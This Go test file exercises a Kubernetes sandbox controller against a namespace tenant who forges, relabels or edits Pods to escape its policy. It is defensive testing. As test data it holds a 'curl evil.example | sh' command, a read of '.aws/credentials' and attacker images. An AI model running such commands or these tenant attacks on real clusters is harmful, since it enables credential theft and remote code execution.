package controller_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"path"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/airlock-sandbox/airlock/api"
	"github.com/airlock-sandbox/airlock/controller"
	"github.com/airlock-sandbox/airlock/controller/api/v1alpha1"
)

// permissive is a policy an attacker would rather run under: the home
// folders, where the credentials are, readable.
const permissive = `version: 1
fs_read: [/home]
allow_downgrade: [max_memory, max_cpu, max_pids]
budget:
  max_wall: 30s
`

// TestBinding attacks what binds a Sandbox to the Pod that runs it, on a
// real kube-apiserver with the controller running as administrator (so
// that only the controller's own checks stand in the way, not an
// admission policy) and a tenant: another user of the namespace, with the
// rights the attack names (RBAC, impersonated).
func TestBinding(t *testing.T) {
	e := start(t, startOptions{})
	t.Run("PreclaimedPolicy", func(t *testing.T) { testPreclaimedPolicy(t, e) })
	t.Run("ForeignWarmPod", func(t *testing.T) { testForeignWarmPod(t, e) })
	t.Run("StaleWarmPod", func(t *testing.T) { testStaleWarmPod(t, e) })
	t.Run("ForgedPod", func(t *testing.T) { testForgedPod(t, e) })
	t.Run("ChangedAfterBinding", func(t *testing.T) { testChangedAfterBinding(t, e) })
}

// tenant grants the user "tenant" rules in ns and returns a client that
// acts as that user.
func (e *env) tenant(t *testing.T, ns string, rules ...rbacv1.PolicyRule) client.Client {
	t.Helper()
	ctx := testCtx(t)
	role := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant"}, Rules: rules}
	if err := e.c.Create(ctx, role); err != nil {
		t.Fatal(err)
	}
	rb := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant"},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "tenant"},
		Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "tenant"}}}
	if err := e.c.Create(ctx, rb); err != nil {
		t.Fatal(err)
	}
	cfg := rest.CopyConfig(e.cp.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "tenant"}
	c, err := client.New(cfg, client.Options{Scheme: e.c.Scheme()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// policyOf returns the policy text the airlock of pod's sandbox container
// reads: the file its --policy names, from the volume mounted there (a
// ConfigMap's key, or the file the pod's init container writes from its
// environment).
func policyOf(t *testing.T, ctx context.Context, c client.Client, pod *corev1.Pod) string {
	t.Helper()
	ct := pod.Spec.Containers[0]
	i := slices.Index(ct.Command, "--policy")
	if i < 0 || i+1 >= len(ct.Command) {
		t.Fatalf("pod %s: command %q has no --policy", pod.Name, ct.Command)
	}
	file := ct.Command[i+1]
	var vol string
	for _, m := range ct.VolumeMounts {
		if strings.HasPrefix(file, m.MountPath+"/") {
			vol = m.Name
		}
	}
	for _, v := range pod.Spec.Volumes {
		if v.Name != vol {
			continue
		}
		switch {
		case v.ConfigMap != nil:
			var cm corev1.ConfigMap
			if err := c.Get(ctx, client.ObjectKey{Namespace: pod.Namespace, Name: v.ConfigMap.Name}, &cm); err != nil {
				t.Fatalf("pod %s: its policy's configmap: %v", pod.Name, err)
			}
			return cm.Data[path.Base(file)]
		case v.EmptyDir != nil:
			for _, ic := range pod.Spec.InitContainers {
				for _, env := range ic.Env {
					if env.Name == controller.EnvPolicy {
						return env.Value
					}
				}
			}
		}
	}
	t.Fatalf("pod %s: no volume holds its policy %s", pod.Name, file)
	return ""
}

// testPreclaimedPolicy: a tenant who may create ConfigMaps makes one
// under the name the controller gives a template's policy, holding a
// policy that reads everything, before the template exists. The warm Pods
// and every claim must run the template's policy, not the tenant's.
func testPreclaimedPolicy(t *testing.T, e *env) {
	ctx := testCtx(t)
	ns := e.namespace(t, "preclaim")
	tc := e.tenant(t, ns, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"create"}})
	const name = "t"
	image := "registry.example/agent:1"
	// The name the controller gave a template's policy: its name, then
	// policy-, then the first 10 hex digits of sha256(policy NUL image).
	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name + "-policy-" + hash10(podPolicy+"\x00"+image),
		Labels: map[string]string{controller.LabelManagedBy: controller.ManagedBy}},
		Data: map[string]string{"policy.yaml": permissive}}
	if err := tc.Create(ctx, cm); err != nil {
		t.Fatalf("the tenant could not pre-create configmap %s: %v", cm.Name, err)
	}
	tp := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: podPolicy, Image: image, WarmPool: 1}}
	if err := e.c.Create(ctx, tp); err != nil {
		t.Fatal(err)
	}
	for _, p := range e.waitPool(t, ctx, ns, name, 1) {
		e.runPod(t, ctx, &p)
	}
	e.waitReady(t, ctx, tp, 1)
	sb := e.claimAndWait(t, ctx, ns, "victim", name, []string{"cat", "/home/agent/.aws/credentials"})
	var pod corev1.Pod
	if err := e.c.Get(ctx, client.ObjectKey{Namespace: ns, Name: sb.Status.PodName}, &pod); err != nil {
		t.Fatal(err)
	}
	if got := policyOf(t, ctx, e.c, &pod); got != podPolicy {
		t.Errorf("the claim's pod %s (warm %v) runs under the policy\n%s\nnot the template's: a tenant's configmap was adopted", pod.Name, sb.Status.Warm, got)
	}
}

// testForeignWarmPod: a tenant who may update Pods relabels a ready warm
// Pod of template "open" (a policy that reads everything) as one of
// template "strict", with strict as its owner. A claim of strict must
// not be bound to it.
func testForeignWarmPod(t *testing.T, e *env) {
	ctx := testCtx(t)
	ns := e.namespace(t, "foreign")
	tc := e.tenant(t, ns, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list", "update", "patch"}})
	open := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "open"},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: permissive, Image: "img", WarmPool: 1}}
	strict := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "strict"},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: podPolicy, Image: "img", WarmPool: 1}}
	for _, tp := range []*v1alpha1.SandboxTemplate{open, strict} {
		if err := e.c.Create(ctx, tp); err != nil {
			t.Fatal(err)
		}
	}
	stolen := e.waitPool(t, ctx, ns, "open", 1)[0]
	e.waitPool(t, ctx, ns, "strict", 1)
	e.runPod(t, ctx, &stolen)
	e.waitReady(t, ctx, open, 1)
	var strictHash string
	for _, p := range e.warmPods(t, ctx, ns, "strict") {
		strictHash = p.Labels[controller.LabelHash]
	}
	relabel(t, ctx, tc, &stolen, "strict", strictHash, strict)
	sb := e.claimAndWait(t, ctx, ns, "victim", "strict", []string{"true"})
	var pod corev1.Pod
	if err := e.c.Get(ctx, client.ObjectKey{Namespace: ns, Name: sb.Status.PodName}, &pod); err != nil {
		t.Fatal(err)
	}
	if pod.Name == stolen.Name {
		t.Errorf("the claim of strict was bound to %s, open's warm pod relabelled by a tenant", pod.Name)
	}
	if got := policyOf(t, ctx, e.c, &pod); got != podPolicy {
		t.Errorf("the claim of strict runs under\n%s\nnot strict's policy", got)
	}
}

// hash10 is the first 10 hex digits of s's SHA-256.
func hash10(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])[:10]
}

// relabel makes pod, as the client c, look like a warm Pod of template
// tp with the spec hash hash: its labels and its controller reference.
func relabel(t *testing.T, ctx context.Context, c client.Client, pod *corev1.Pod, template, hash string, tp *v1alpha1.SandboxTemplate) {
	t.Helper()
	if err := c.Get(ctx, client.ObjectKeyFromObject(pod), pod); err != nil {
		t.Fatal(err)
	}
	pod.Labels[controller.LabelTemplate] = template
	pod.Labels[controller.LabelHash] = hash
	yes := true
	pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: "airlock.dev/v1alpha1", Kind: "SandboxTemplate", Name: tp.Name, UID: tp.UID, Controller: &yes}}
	if err := c.Update(ctx, pod); err != nil {
		t.Fatalf("the tenant could not relabel pod %s: %v", pod.Name, err)
	}
}

// testStaleWarmPod: a template's policy changes after its warm Pod is
// ready. A tenant who may update Pods kept that Pod out of the pool's
// reach meanwhile (no owner), then gives it back, with the hash label of
// the new spec (the hash of the policy and image, which anyone can
// compute). A claim made after the change must run under the new policy.
func testStaleWarmPod(t *testing.T, e *env) {
	ctx := testCtx(t)
	ns := e.namespace(t, "stale")
	tc := e.tenant(t, ns, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list", "update", "patch"}})
	tp := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "t"},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: permissive, Image: "img", WarmPool: 1}}
	if err := e.c.Create(ctx, tp); err != nil {
		t.Fatal(err)
	}
	old := e.waitPool(t, ctx, ns, "t", 1)[0]
	e.runPod(t, ctx, &old)
	e.waitReady(t, ctx, tp, 1)
	if err := tc.Get(ctx, client.ObjectKeyFromObject(&old), &old); err != nil {
		t.Fatal(err)
	}
	orphan := old.DeepCopy()
	orphan.OwnerReferences = nil
	if err := tc.Update(ctx, orphan); err != nil {
		t.Fatalf("the tenant could not take pod %s out of the pool: %v", old.Name, err)
	}
	e.patchTemplate(t, ctx, tp, func(s *v1alpha1.SandboxTemplateSpec) { s.Policy = podPolicy })
	newHash := hash10(podPolicy + "\x00" + "img")
	waitFor(t, ctx, "a warm pod of the new policy", func() (bool, error) {
		return slices.ContainsFunc(e.warmPods(t, ctx, ns, "t"), func(p corev1.Pod) bool {
			return p.Name != old.Name && p.Labels[controller.LabelHash] == newHash && metav1.IsControlledBy(&p, tp)
		}), nil
	})
	relabel(t, ctx, tc, &old, "t", newHash, tp)
	waitFor(t, ctx, "the template's pool settled", func() (bool, error) {
		err := e.c.Get(ctx, client.ObjectKeyFromObject(tp), tp)
		return err == nil && tp.Status.Warm == 1, err
	})
	sb := e.claimAndWait(t, ctx, ns, "victim", "t", []string{"true"})
	var pod corev1.Pod
	if err := e.c.Get(ctx, client.ObjectKey{Namespace: ns, Name: sb.Status.PodName}, &pod); err != nil {
		t.Fatal(err)
	}
	if got := policyOf(t, ctx, e.c, &pod); got != podPolicy {
		t.Errorf("a claim after the template's policy changed runs pod %s (warm %v) under the old policy\n%s", pod.Name, sb.Status.Warm, got)
	}
}

// testForgedPod: a Sandbox waits for its template; a tenant who may
// create Pods makes one with the Sandbox's uid label and the Sandbox as
// its controller, which "ends" with a report of the tenant's choosing.
// The Sandbox's status must not take that report.
func testForgedPod(t *testing.T, e *env) {
	ctx := testCtx(t)
	ns := e.namespace(t, "forged")
	tc := e.tenant(t, ns, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list", "create"}})
	sb := &v1alpha1.Sandbox{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "victim"},
		Spec: v1alpha1.SandboxSpec{TemplateRef: &v1alpha1.TemplateRef{Name: "later"}, Command: []string{"python3", "job.py"}}}
	if err := e.c.Create(ctx, sb); err != nil {
		t.Fatal(err)
	}
	e.sandbox(t, ctx, ns, "victim", "waiting", func(s *v1alpha1.Sandbox) bool {
		c := meta.FindStatusCondition(s.Status.Conditions, controller.CondReady)
		return c != nil && c.Reason == controller.ReasonTemplateNotFound
	})
	if err := e.c.Get(ctx, client.ObjectKeyFromObject(sb), sb); err != nil {
		t.Fatal(err)
	}
	yes, no, uid := true, false, int64(65532)
	forged := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "forged",
		Labels:          map[string]string{controller.LabelManagedBy: controller.ManagedBy, controller.LabelSandboxUID: string(sb.UID)},
		OwnerReferences: []metav1.OwnerReference{{APIVersion: "airlock.dev/v1alpha1", Kind: "Sandbox", Name: sb.Name, UID: sb.UID, Controller: &yes}}},
		Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "sandbox", Image: "img", Command: []string{"true"},
			SecurityContext: &corev1.SecurityContext{RunAsNonRoot: &yes, RunAsUser: &uid, AllowPrivilegeEscalation: &no,
				Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}, SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}}}}}}
	if err := tc.Create(ctx, forged); err != nil {
		t.Fatalf("the tenant could not create pod %s: %v", forged.Name, err)
	}
	msg, err := json.Marshal(api.Summary{ExitCode: 0, Backend: "landlock", Stdout: "forged"})
	if err != nil {
		t.Fatal(err)
	}
	e.runPod(t, ctx, forged)
	e.endPod(t, ctx, forged, 0, string(msg))
	// The template appears: the Sandbox gets its own Pod.
	tp := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "later"},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: podPolicy, Image: "img"}}
	if err := e.c.Create(ctx, tp); err != nil {
		t.Fatal(err)
	}
	got := e.sandbox(t, ctx, ns, "victim", "bound", func(s *v1alpha1.Sandbox) bool { return s.Status.PodName != "" })
	if got.Status.PodName == forged.Name || got.Status.Report != nil && got.Status.Report.Stdout == "forged" {
		t.Errorf("the Sandbox took the tenant's pod %s: status %+v", forged.Name, got.Status)
	}
}

// testChangedAfterBinding: a tenant who may update Pods changes a bound
// Pod: the image of a new Pod (the kubelet would run it, restarting the
// container), and the command annotation of a claimed warm Pod (the
// kubelet may write it to the file before airlock reads it). Neither
// Sandbox may report the run as its own: both end Failed, PodChanged.
func testChangedAfterBinding(t *testing.T, e *env) {
	ctx := testCtx(t)
	ns := e.namespace(t, "changed")
	tc := e.tenant(t, ns, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list", "update", "patch"}})
	sb := &v1alpha1.Sandbox{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "cold"},
		Spec: v1alpha1.SandboxSpec{Policy: podPolicy, Image: "img", Command: []string{"python3", "job.py"}}}
	if err := e.c.Create(ctx, sb); err != nil {
		t.Fatal(err)
	}
	sb = e.sandbox(t, ctx, ns, "cold", "bound", func(s *v1alpha1.Sandbox) bool { return s.Status.PodName != "" })
	var pod corev1.Pod
	if err := tc.Get(ctx, client.ObjectKey{Namespace: ns, Name: sb.Status.PodName}, &pod); err != nil {
		t.Fatal(err)
	}
	orig := pod.DeepCopy()
	pod.Spec.Containers[0].Image = "evil.example/tools:1"
	if err := tc.Patch(ctx, &pod, client.MergeFrom(orig)); err != nil {
		t.Fatalf("the tenant could not change the image of pod %s: %v", pod.Name, err)
	}
	e.runPod(t, ctx, &pod)
	e.endPod(t, ctx, &pod, 0, summary(t, 0))
	got := e.sandbox(t, ctx, ns, "cold", "final", func(s *v1alpha1.Sandbox) bool {
		return s.Status.Phase == v1alpha1.PhaseFailed || s.Status.Phase == v1alpha1.PhaseSucceeded
	})
	if c := meta.FindStatusCondition(got.Status.Conditions, controller.CondReady); got.Status.Phase != v1alpha1.PhaseFailed || c == nil || c.Reason != controller.ReasonPodChanged || got.Status.Report != nil {
		t.Errorf("a Sandbox whose pod's image a tenant changed: status %+v, want Failed, PodChanged, no report", got.Status)
	} else {
		t.Logf("image changed: %s", c.Message)
	}

	tp := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "t"},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: podPolicy, Image: "img", WarmPool: 1}}
	if err := e.c.Create(ctx, tp); err != nil {
		t.Fatal(err)
	}
	for _, p := range e.waitPool(t, ctx, ns, "t", 1) {
		e.runPod(t, ctx, &p)
	}
	e.waitReady(t, ctx, tp, 1)
	claim := e.claimAndWait(t, ctx, ns, "warm", "t", []string{"python3", "job.py"})
	if !claim.Status.Warm {
		t.Fatalf("the claim was not bound to the ready warm pod: %+v", claim.Status)
	}
	if err := tc.Get(ctx, client.ObjectKey{Namespace: ns, Name: claim.Status.PodName}, &pod); err != nil {
		t.Fatal(err)
	}
	orig = pod.DeepCopy()
	pod.Annotations[controller.AnnotationArgv] = `["sh","-c","echo pwned"]`
	if err := tc.Patch(ctx, &pod, client.MergeFrom(orig)); err != nil {
		t.Fatalf("the tenant could not change the command of pod %s: %v", pod.Name, err)
	}
	e.endPod(t, ctx, &pod, 0, summary(t, 0))
	got = e.sandbox(t, ctx, ns, "warm", "final", func(s *v1alpha1.Sandbox) bool {
		return s.Status.Phase == v1alpha1.PhaseFailed || s.Status.Phase == v1alpha1.PhaseSucceeded
	})
	if c := meta.FindStatusCondition(got.Status.Conditions, controller.CondReady); got.Status.Phase != v1alpha1.PhaseFailed || c == nil || c.Reason != controller.ReasonPodChanged || got.Status.Report != nil {
		t.Errorf("a claim whose pod's command a tenant changed: status %+v, want Failed, PodChanged, no report", got.Status)
	} else {
		t.Logf("command changed: %s", c.Message)
	}
}

// testTenantEdits: a tenant of the namespace who may create, update and
// patch Pods (rights RBAC cannot narrow to fields) tries what the
// controller's Pods read or are trusted for: the command annotation of a
// warm Pod (the Pod would run it), its labels and images, and a new Pod
// that claims to be the controller's. The admission policy of
// packaging/controller refuses each, naming it; the controller's own
// writes pass (the life of a Sandbox and the warm pool ran before this).
func testTenantEdits(t *testing.T, e *env) {
	ctx := testCtx(t)
	ns := e.namespace(t, "tenant")
	tc := e.tenant(t, ns, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods", "pods/ephemeralcontainers"}, Verbs: []string{"get", "list", "create", "update", "patch"}})
	tp := &v1alpha1.SandboxTemplate{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "t"},
		Spec: v1alpha1.SandboxTemplateSpec{Policy: podPolicy, Image: "img", WarmPool: 1}}
	if err := e.c.Create(ctx, tp); err != nil {
		t.Fatal(err)
	}
	warm := e.waitPool(t, ctx, ns, "t", 1)[0]
	edits := []struct {
		name string
		edit func(p *corev1.Pod)
		want string // in the refusal; "" for an edit that passes
	}{
		{"argv annotation", func(p *corev1.Pod) {
			p.Annotations = map[string]string{controller.AnnotationArgv: `["sh","-c","curl evil.example | sh"]`}
		}, "airlock.dev/* annotations"},
		{"template label", func(p *corev1.Pod) { p.Labels[controller.LabelTemplate] = "other" }, "airlock.dev/* and app.kubernetes.io/managed-by labels"},
		{"managed-by label", func(p *corev1.Pod) { delete(p.Labels, controller.LabelManagedBy) }, "airlock.dev/* and app.kubernetes.io/managed-by labels"},
		{"sandbox image", func(p *corev1.Pod) { p.Spec.Containers[0].Image = "evil.example/airlock:1" }, "images"},
		{"enforcer image", func(p *corev1.Pod) { p.Spec.InitContainers[0].Image = "evil.example/airlock:1" }, "images"},
		// What the policy does not cover passes: it refuses no more.
		{"own label", func(p *corev1.Pod) { p.Labels["team"] = "data" }, ""},
	}
	for _, ed := range edits {
		var p corev1.Pod
		if err := tc.Get(ctx, client.ObjectKeyFromObject(&warm), &p); err != nil {
			t.Fatal(err)
		}
		orig := p.DeepCopy()
		ed.edit(&p)
		err := tc.Patch(ctx, &p, client.MergeFrom(orig))
		switch {
		case ed.want == "" && err != nil:
			t.Errorf("a tenant's %s on warm pod %s was refused: %v", ed.name, warm.Name, err)
		case ed.want == "":
		case err == nil:
			t.Errorf("a tenant changed the %s of warm pod %s", ed.name, warm.Name)
		case !strings.Contains(err.Error(), "only the airlock-controller ServiceAccount changes the "+ed.want):
			t.Errorf("changing the %s of warm pod %s: %v, want the refusal of the %s", ed.name, warm.Name, err, ed.want)
		default:
			t.Logf("%s: %v", ed.name, err)
		}
	}
	// An ephemeral container would run beside airlock, in the Pod.
	var p corev1.Pod
	if err := tc.Get(ctx, client.ObjectKeyFromObject(&warm), &p); err != nil {
		t.Fatal(err)
	}
	p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "evil.example/shell:1",
		SecurityContext: p.Spec.Containers[0].SecurityContext.DeepCopy()}}} // restricted, as the namespace demands
	if err := tc.SubResource("ephemeralcontainers").Update(ctx, &p); err == nil || !strings.Contains(err.Error(), "take no ephemeral containers") {
		t.Errorf("a tenant adding an ephemeral container to warm pod %s: %v, want it refused", warm.Name, err)
	}
	// A tenant's own Pod may not pass for the controller's.
	yes, no, uid := true, false, int64(65532)
	fake := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "fake",
		Labels: map[string]string{controller.LabelManagedBy: controller.ManagedBy, controller.LabelTemplate: "t", controller.LabelPool: controller.PoolWarm}},
		Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "sandbox", Image: "img", Command: []string{"true"},
			SecurityContext: &corev1.SecurityContext{RunAsNonRoot: &yes, RunAsUser: &uid, AllowPrivilegeEscalation: &no,
				Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}, SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}}}}}}
	if err := tc.Create(ctx, fake); err == nil || !strings.Contains(err.Error(), "creates Pods labelled") {
		t.Errorf("a tenant creating pod %s labelled as the airlock controller's: %v, want it refused", fake.Name, err)
	}
	// Pods of its own, not labelled as the controller's, stay the
	// tenant's business.
	own := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "own"}, Spec: *fake.Spec.DeepCopy()}
	if err := tc.Create(ctx, own); err != nil {
		t.Errorf("a tenant's own pod was refused: %v", err)
	}
}
